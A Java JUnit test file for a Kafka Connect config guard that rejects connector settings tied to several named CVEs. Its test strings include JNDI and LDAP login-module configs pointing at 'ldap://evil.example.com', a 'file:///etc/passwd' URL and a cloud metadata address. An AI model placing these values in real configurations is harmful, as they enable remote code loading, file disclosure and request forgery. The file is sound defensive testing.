package dev.sluice.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.HashMap;
import java.util.Map;
import java.util.Set;
import org.apache.kafka.common.config.ConfigException;
import org.apache.kafka.common.security.scram.ScramLoginModule;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What known attacks put into connector configs is refused, and what users put there is not. */
class ConnectorGuardTest {
    private static final String ALLOWED_URLS = "org.apache.kafka.sasl.oauthbearer.allowed.urls";
    private static final String ALLOWED_MODULES = "org.apache.kafka.allowed.login.modules";
    private static final String JNDI = "com.sun.security.auth.module.JndiLoginModule required"
            + " user.provider.url=\"ldap://evil.example.com/x\" password=\"sesame\";";
    private static final String LDAP = "com.sun.security.auth.module.LdapLoginModule required"
            + " userProvider=\"ldap://evil.example.com/x\" password=\"sesame\";";

    private static ConnectorGuard guard(Map<String, String> more) {
        Map<String, String> properties = new HashMap<>(Map.of(
                "bootstrap.servers", "localhost:9092",
                "group.id", "workers",
                "config.storage.topic", "c",
                "offset.storage.topic", "o",
                "status.storage.topic", "s",
                "key.converter", "org.apache.kafka.connect.storage.StringConverter",
                "value.converter", "org.apache.kafka.connect.storage.StringConverter"));
        properties.putAll(more);
        return new ConnectorGuard(WorkerConfig.distributed(properties));
    }

    private static Set<String> refused(String key, String value) {
        return guard(Map.of()).problems(Map.of(key, value)).keySet();
    }

    @ParameterizedTest
    @ValueSource(strings = {"producer.override.", "consumer.override.", "admin.override."})
    void jndiLoginModulesAreRefused_CVE_2023_25194_and_CVE_2025_27819(String client) {
        String key = client + "sasl.jaas.config";
        assertEquals(Set.of(key), refused(key, JNDI));
        assertEquals(Set.of(key), refused(key, "  " + JNDI.replace("required", "\n optional ")));
        String second =
                "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"p\"; ";
        assertEquals(Set.of(), refused(key, second));
    }

    @Test
    void ldapLoginModulesAreRefused_CVE_2025_27818() {
        assertEquals(Set.of("consumer.override.sasl.jaas.config"), refused("consumer.override.sasl.jaas.config", LDAP));
    }

    @Test
    void whatIsRefusedIsNotRepeated() {
        String problem = guard(Map.of())
                .problems(Map.of("producer.override.sasl.jaas.config", LDAP))
                .toString();
        assertFalse(problem.contains("sesame"), problem);
        assertTrue(problem.contains(ALLOWED_MODULES), problem);
    }

    @Test
    void theOperatorCanAllowLoginModules() {
        System.setProperty(ALLOWED_MODULES, ScramLoginModule.class.getName());
        try {
            String scram = ScramLoginModule.class.getName() + " required username=\"u\" password=\"p\";";
            assertEquals(Set.of(), refused("producer.override.sasl.jaas.config", scram));
            String plain =
                    "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"p\";";
            assertEquals(1, refused("producer.override.sasl.jaas.config", plain).size(), "not in the list");
        } finally {
            System.clearProperty(ALLOWED_MODULES);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "config.providers",
                "config.providers.f.class",
                "producer.override.config.providers",
                "admin.override.config.providers.f.param.x",
                "value.converter.config.providers",
                "transforms.t.config.providers.f.class"
            })
    void configProvidersOfAConnectorAreRefused_CVE_2024_31141(String key) {
        assertEquals(Set.of(key), refused(key, "f"));
        ConnectorGuard relaxed = guard(Map.of(ConnectorGuard.PROVIDERS_SWITCH, "true"));
        assertEquals(Map.of(), relaxed.problems(Map.of(key, "f")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"sasl.oauthbearer.token.endpoint.url", "sasl.oauthbearer.jwks.endpoint.url"})
    void urlsOfOAuthAreRefusedUnlessTheOperatorAllowsThem_CVE_2025_27817(String property) {
        String key = "producer.override." + property;
        assertEquals(Set.of(key), refused(key, "file:///etc/passwd"));
        System.setProperty(ALLOWED_URLS, "https://idp.example.com/token, https://idp.example.com/keys");
        try {
            assertEquals(Set.of(), refused(key, "https://idp.example.com/keys"));
            assertEquals(Set.of(key), refused(key, "https://idp.example.com/keys/../x"));
            assertEquals(Set.of(key), refused(key, "http://169.254.169.254/latest"));
        } finally {
            System.clearProperty(ALLOWED_URLS);
        }
    }

    @Test
    void whatUsersWriteIsAllowed() {
        Map<String, String> config = new HashMap<>(Map.of(
                "connector.class", "example.Source",
                "password", "${file:/etc/secrets:password}",
                "producer.override.linger.ms", "5",
                "producer.override.security.protocol", "SASL_SSL",
                "producer.override.sasl.jaas.config",
                        ScramLoginModule.class.getName() + " required username=\"u\" password=\"p\";",
                "consumer.override.sasl.jaas.config", "not well formed"));
        config.put("nothing", null);
        assertEquals(Map.of(), guard(Map.of()).problems(config));
    }

    @Test
    void whatCameAnotherWayDoesNotStart() {
        ConnectorGuard guard = guard(Map.of());
        ConfigException refusal = assertThrows(
                ConfigException.class, () -> guard.requireSafe(Map.of("admin.override.sasl.jaas.config", JNDI)));
        assertFalse(refusal.getMessage().contains("sesame"));
        guard.requireSafe(Map.of("connector.class", "example.Source"));
    }
}
